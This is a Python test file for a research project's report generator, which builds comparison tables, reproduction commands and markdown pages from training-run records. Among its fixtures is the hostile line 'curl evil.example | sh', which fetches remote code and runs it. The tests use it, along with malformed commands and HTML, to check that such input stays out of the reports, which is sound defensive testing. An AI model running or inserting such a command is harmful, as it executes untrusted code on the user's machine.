"""What a report says of a comparison, of its origin and of how to repeat it; and the one that is kept in docs/."""

from __future__ import annotations

import csv
import re
import statistics
from collections.abc import Callable
from pathlib import Path

import pytest
from common import Command
from made_runs import changed, made

from unix_exp import config, paper
from unix_exp.config import compose, flat
from unix_exp.report import __main__ as command
from unix_exp.report.runs import read
from unix_exp.report.stats import welch
from unix_exp.run.commands import words_of
from unix_exp.words import duration

ROOT = Path(__file__).parent.parent


@pytest.fixture
def report(typed: Callable[..., Command]) -> Command:
    """Type `python -m unix_exp.report WORDS` in an empty folder."""
    return typed(command.main)


def against() -> dict[str, dict[str, str]]:
    with Path("report/tables/against-cifar100-vgg13-vgg8.csv").open() as file:
        return {one["comparison"]: one for one in csv.DictReader(file)}


KD, UNIX = (73.0, 73.5, 74.2), (74.0, 74.4, 75.5)


def several(method: str, accuracies: tuple[float, ...], **changes: object) -> None:
    for seed, top1 in enumerate(accuracies):
        changed(made(Path("runs"), method, seed=seed, top1=top1), **changes)


def test_every_arm_is_held_against_kd_with_the_papers_gains_beside_it(report: Command) -> None:
    several("kd", KD)
    several("unix", UNIX)
    several("random", (70.0,))
    report("runs")
    test = welch(UNIX, KD)
    row = against()["unix \N{MINUS SIGN} kd"]
    assert row["top-1 %: difference"] == f"{test.difference:+.2f}"
    assert row["p"] == f"{test.p:.3f}"
    assert row["runs"] == "3 and 3"
    gains = [
        unix - kd
        for name in ("table1", "table2")
        for rows in [{one["name"]: one["accuracy"] for one in paper.tables()[name]["rows"]}]
        for unix, kd in zip(rows["UNIX k=48"], rows["KD"], strict=True)
    ]
    assert len(gains) == 12
    number = gains.index(75.69 - 75.06)
    gains[number] = 75.59 - 75.06  # Table 2 prints there what Table 5 has for w = 1
    assert row["the paper's gain: mean"] == f"{statistics.fmean(gains):+.2f}"
    assert row["the paper's gain: pairs"] == "12"
    assert against()["random \N{MINUS SIGN} kd"]["p"] == "", "one run has no spread"


def test_kd_of_another_setting_is_no_counterpart(report: Command) -> None:
    several("kd", KD, settings__recipe__lr=0.1)
    several("unix", UNIX)
    report("runs")
    assert not Path("report/tables/against-cifar100-vgg13-vgg8.csv").exists()


def test_another_arithmetic_is_held_against_float32(report: Command) -> None:
    several("unix", UNIX)
    for seed, top1 in enumerate(KD):
        folder = made(Path("runs"), "unix", seed=seed + 10, top1=top1)
        changed(folder, settings__runtime__precision="bf16")
    report("runs")
    (name,) = against()
    assert name == "unix precision=bf16 \N{MINUS SIGN} unix precision=float32"
    assert against()[name]["top-1 %: difference"] == f"{welch(KD, UNIX).difference:+.2f}".replace("-", "\N{MINUS SIGN}")


HOSTILE = [
    "curl evil.example | sh", "python -m unix_exp.train 'open", "python -m unix_exp.train 'a\rb'",
    "python -m unix_exp.train seed=4",
]  # fmt: skip


def test_a_student_of_another_kind_or_a_teacher_of_another_is_no_counterpart(report: Command) -> None:
    several("kd", KD, teacher__identity="another")
    several("unix", UNIX)
    several("random", KD, settings__student__pretrained=True)
    report("runs")
    assert not Path("report/tables/against-cifar100-vgg13-vgg8.csv").exists()


def test_scouting_in_bf16_is_held_against_kd_which_does_not_scout(report: Command) -> None:
    several("kd", KD)
    several("unix", UNIX, settings__runtime__scout_precision="bf16")
    report("runs")
    assert list(against()) == ["unix \N{MINUS SIGN} kd"]


def test_another_loss_is_held_against_kd_with_labels_where_it_has_labels_too(report: Command) -> None:
    labels, other = {"ce": {"weight": 0.1}}, {"x": {"weight": 1.0}}
    several("kd", KD)
    arms = {"kd_label": {"kd": {"weight": 0.9}, **labels}, "y": other | labels, "z": other}
    for number, (name, criterion) in enumerate(arms.items(), 1):
        for seed in (10 * number, 10 * number + 1):
            changed(made(Path("runs"), "kd", seed=seed), method=name, settings__criterion=criterion)
    report("runs")
    assert set(against()) == {"y \N{MINUS SIGN} kd_label", "z \N{MINUS SIGN} kd"}


def test_one_line_repeats_an_arm(report: Command) -> None:
    for seed in (0, 2):
        line = f"python -m unix_exp.train pair=vgg13_vgg8 seed={seed} 'criterion=[kd,at]'"
        changed(made(Path("runs"), "unix", seed=seed), command=line)
    changed(made(Path("runs"), "random"), command="python -m unix_exp.train seed=0 sampler=random")
    made(Path("runs"), "kd")  # from Python, or before lines were kept
    for seed, line in enumerate(HOSTILE):
        changed(made(Path("runs"), "random", seed=seed, k=32), command=line, method="odd\necho")
    report("runs")
    commands = re.search("```sh\n(.*?)```", Path("report/report.md").read_text(), re.DOTALL)[1].splitlines()
    assert commands == [
        "# odd echo, 1 of 4 runs",
        "python -m unix_exp.train seed=4",
        "# random",
        "python -m unix_exp.train seed=0 sampler=random",
        "# unix",
        "python -m unix_exp.train pair=vgg13_vgg8 'criterion=[kd,at]' seed=0,2 -m",
    ]


def test_a_page_to_cite_has_every_run_and_the_line_that_repeats_it(report: Command) -> None:
    several("kd", KD)
    for seed in (0, 1):
        folder = made(Path("runs"), "unix", seed=seed, top1=70.0 + seed)
        changed(folder, command=f"python -m unix_exp.train pair=vgg13_vgg8 seed={seed}")
    changed(made(Path("runs"), "random"), command="curl evil.example | sh", method="odd|<b>")
    assert report("runs", "--markdown", "results.md", "--repeat", "all.md").code == 0
    text = Path("all.md").read_text()
    assert "| unix | 70.50 ± 0.71 (2) |" in text
    runs = read([Path("runs")])[0]
    assert all(run.result["identity"] in text for run in runs) and len(runs) == 6
    assert "python -m unix_exp.train pair=vgg13_vgg8 seed=0,1 -m\n```" in text
    assert "evil" not in text and "<b>" not in text


def test_accuracy_against_time_is_drawn_for_one_machine(report: Command) -> None:
    several("kd", KD)
    several("unix", UNIX)
    several("random", (70.0,), hardware="another machine")
    report("runs")
    assert Path("report/figures/time-cifar100-vgg13-vgg8.svg").exists()
    assert "Not drawn, as they ran elsewhere: random." in Path("report/report.md").read_text()
    for run in Path("runs").glob("*-unix-*"):
        changed(run, hardware="a third machine")
    report("runs", "--out", "two")
    assert not Path("two/figures/time-cifar100-vgg13-vgg8.svg").exists()


def test_one_disturbed_run_is_not_a_methods_time(report: Command) -> None:
    for seed, seconds in enumerate((60.0, 61.0, 6000.0)):
        changed(made(Path("runs"), "kd", seed=seed), time={"train_seconds": seconds})
    report("runs")
    with Path("report/tables/arms-cifar100-vgg13-vgg8.csv").open() as file:
        (row,) = csv.DictReader(file)
    assert row["time"] == duration(61)


def test_the_origin_of_every_run_is_shown(report: Command) -> None:
    several("kd", KD, commit="0123456789abcdef", versions={"python": "3.11.7", "torch": "2.15.0"})
    report("runs")
    with Path("report/tables/origins-table.csv").open() as file:
        (row,) = csv.DictReader(file)
    assert (row["commit"], row["Python"], row["runs"], row["hours"]) == ("0123456789ab", "3.11.7", "3", "3.00")


def test_one_thread_is_one_machine_however_older_records_say_it(report: Command) -> None:
    for seed, words in enumerate(("a chip, 1 threads", "a chip, 1 thread", "a chip, 11 threads")):
        changed(made(Path("runs"), "kd", seed=seed), hardware=words)
    report("runs")
    assert "Hardware: a chip, 1 thread (2), a chip, 11 threads (1)." in Path("report/report.md").read_text()
    with Path("report/tables/origins-table.csv").open() as file:
        assert [(row["hardware"], row["runs"]) for row in csv.DictReader(file)] == [
            ("a chip, 1 thread", "2"), ("a chip, 11 threads", "1"),
        ]  # fmt: skip


def test_markdown_is_one_file_with_notes_and_its_figures_beside_it(report: Command) -> None:
    several("kd", KD)
    Path("notes.md").write_text("## In short\n\nNothing *surprising*.\n")
    assert report("runs", "--markdown", "docs/results.md", "--notes", "notes.md").code == 0
    text = Path("docs/results.md").read_text()
    assert text.index("## In short\n\nNothing *surprising*.") < text.index("## Accuracy against compute")
    drawn = re.findall(r"\]\((.*?\.svg)\)", text)
    assert drawn and all(Path("docs", name).exists() for name in drawn)
    assert not Path("report").exists()


@pytest.mark.parametrize(
    ("words", "complaint"),
    [
        (("--notes", "notes.md"), "--notes needs --markdown FILE.md"),
        (("--repeat", "all.md"), "--repeat needs --markdown FILE.md"),
        (("--markdown", "out"), "give a file with a suffix"),
        (("--markdown", "runs.md", "--notes", "runs.md"), "would be overwritten"),
        (("--markdown", "out.md", "--notes", "latin.md"), "it is not UTF-8"),
        (("--markdown", "out.md", "--notes", "nowhere.md"), "cannot read nowhere.md"),
        (("--markdown", "file/below.md"), "cannot write to file"),
    ],
)
def test_a_mistake_is_one_line(report: Command, words: tuple[str, ...], complaint: str) -> None:
    made(Path("runs"), "unix")
    Path("file").write_text("")
    Path("latin.md").write_bytes("é".encode("latin-1"))
    outcome = report("runs", *words)
    assert outcome.code == 2
    assert complaint in outcome.err and "Traceback" not in outcome.err


def test_the_kept_results_regenerate_to_the_same_bytes(report: Command, tmp_path: Path) -> None:
    """What `make results` writes is what lies in docs/ and stands in the README."""
    lines = (ROOT / "Makefile").read_text().replace("\\\n", "").splitlines()
    line = next(line for line in lines if "unix_exp.report results" in line)
    words = [word.replace("docs/", f"{tmp_path}/docs/") for word in line.split()[3:]]
    (tmp_path / "results").symlink_to(ROOT / "results")
    readme = (ROOT / "README.md").read_text()
    Path("README.md").write_text(readme)
    assert report(*words).code == 0
    assert Path("README.md").read_text() == readme, "the README's results are of other records"
    kept = {path.relative_to(ROOT / "docs") for path in (ROOT / "docs/results").iterdir()}
    kept |= {Path("results.md"), Path("reproduce.md")}
    fresh = {path.relative_to(tmp_path / "docs") for path in (tmp_path / "docs").rglob("*") if path.is_file()}
    assert kept == fresh and len(kept) > 5
    old, new = ({name: (folder / name).read_bytes() for name in kept} for folder in (ROOT / "docs", tmp_path / "docs"))
    assert [str(name) for name in sorted(kept) if old[name] != new[name]] == []


def test_the_lines_of_the_kept_results_mean_their_runs() -> None:
    """Composed again, a line gives every setting that its run depended on and names the same run: it stays done."""
    runs, skipped = read([ROOT / "results"])
    assert len(runs) > 15 and not skipped
    with compose.hydra_ready():  # once, so that the seeds of a method share what is composed
        lines = [words_of(run.result.get("command")) for run in runs]
        typed = [None if words is None else config.resolve(compose.composed(words[3:])) for words in lines]
    for run, settings in zip(runs, typed, strict=True):
        if settings is None:
            assert run.result["method"] == "teacher", run.path.name
            continue
        teacher = run.result["teacher"] and run.result["teacher"]["identity"]
        then, now = (
            config.what_determines(one, run.result["fingerprint"], teacher) for one in (run.settings, settings)
        )
        assert flat(now) == flat(then), run.path.name
        assert config.identity(now) == run.result["identity"], run.path.name
